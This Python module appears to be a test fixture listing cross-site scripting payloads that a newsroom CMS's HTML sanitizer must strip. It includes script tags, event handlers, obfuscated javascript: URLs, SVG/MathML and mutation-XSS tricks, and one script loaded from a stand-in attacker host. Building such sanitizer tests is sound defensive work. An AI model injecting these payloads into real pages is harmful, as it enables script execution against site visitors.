"""Hostile HTML a body might receive (pasted, typed in the source, crafted in a POST).

Written for this project from the well-known families of attacks: script elements, event
handlers, dangerous URL schemes (plain, mixed case, entity-encoded, split by control
characters), frames and plugins, forms, page-level elements, styles, SVG and MathML, parser
confusion (mutation XSS, comments, nesting) and attribute break-outs, including attacks on the
figure markup the newsroom allows. ``PHOTO_URL`` is replaced by a library photo's address, so
those payloads reach the public page rather than being refused as outside images.
"""

PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "<template><script>alert(1)</script></template>",
    "<xss onafterscriptexecute=alert(1)><script>1</script></xss>",
    # event handlers
    '<img src="PHOTO_URL" onerror="alert(1)">',
    '<img src="PHOTO_URL" onload=alert(1) alt="x">',
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">Bấm vào đây</p>',
    '<h2 onmouseover="alert(1)">Tiêu đề</h2>',
    '<abbr title="Hội đồng nhân dân" onmouseover="alert(1)">HĐND</abbr>',
    '<a href="#" onclick="alert(1)">liên kết</a>',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>chữ chạy</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    # dangerous URL schemes
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<blockquote cite="javascript:alert(1)">trích dẫn</blockquote>',
    '<table background="javascript:alert(1)"><tr><td>ô</td></tr></table>',
    # frames, plugins, forms, page-level elements
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>Gửi</button></form>',
    '<button formaction="javascript:alert(1)">Gửi</button>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # styles
    "<style>@import 'javascript:alert(1)';</style>",
    '<p style="background:url(javascript:alert(1))">nền</p>',
    '<div style="width: expression(alert(1))">cũ</div>',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    # parser confusion and break-outs
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<select><option><style></select><img src=x onerror=alert(1)></style>",
    # attacks on the allowed figure markup
    '<figure onmouseover="alert(1)"><img src="PHOTO_URL"><figcaption onclick="alert(1)">chú '
    "thích</figcaption></figure>",
    '<figure class="image&quot; onload=&quot;alert(1)"><img src="PHOTO_URL"></figure>',
    '<img src="PHOTO_URL" data-photo-id="1 onerror=alert(1)" width="1 onload=alert(1)">',
    '<figure class="image"><img src="PHOTO_URL" alt="x&quot; onerror=&quot;alert(1)"></figure>',
    '<a href="https://example.org/" target="javascript:alert(1)">nguồn</a>',
]
